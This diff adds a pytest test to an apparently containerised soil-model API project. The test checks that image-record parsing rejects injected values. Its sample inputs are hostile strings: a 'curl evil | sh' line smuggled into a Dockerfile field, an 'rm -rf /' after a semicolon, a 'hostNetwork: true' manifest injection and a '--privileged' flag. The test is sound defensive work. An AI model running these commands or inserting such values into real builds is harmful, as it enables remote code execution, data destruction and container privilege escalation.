@@ -152,3 +152,22 @@ def test_params_file_problems_are_named_not_crashes(tmp_path, content, message):
         read_params_file(path)
     path.write_text("")
     assert read_params_file(path) == {}
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("git_revision", "abc\nRUN curl evil | sh"),
+        ("model_name", "soil-soc\n  hostNetwork: true"),
+        ("model_version", "7; rm -rf /"),
+        ("tag", "v1 --privileged"),
+    ],
+)
+def test_image_record_refuses_values_that_would_inject_into_dockerfiles_or_manifests(field, value):
+    good = {"image": "127.0.0.1:5000/soil-model-api:0123456789ab-v7@sha256:" + "a" * 64,
+            "repository": "127.0.0.1:5000/soil-model-api", "tag": "0123456789ab-v7", "digest": "sha256:" + "a" * 64,
+            "image_id": "sha256:" + "b" * 64, "model_name": "soil-soc", "model_version": "7",
+            "git_revision": "0123456789abcdef0123456789abcdef01234567", "service_image": "soil-model-api:local"}
+    assert ImageRecord.parse(good).model_version == "7"
+    with pytest.raises(ContractError, match=field):
+        ImageRecord.parse({**good, field: value})
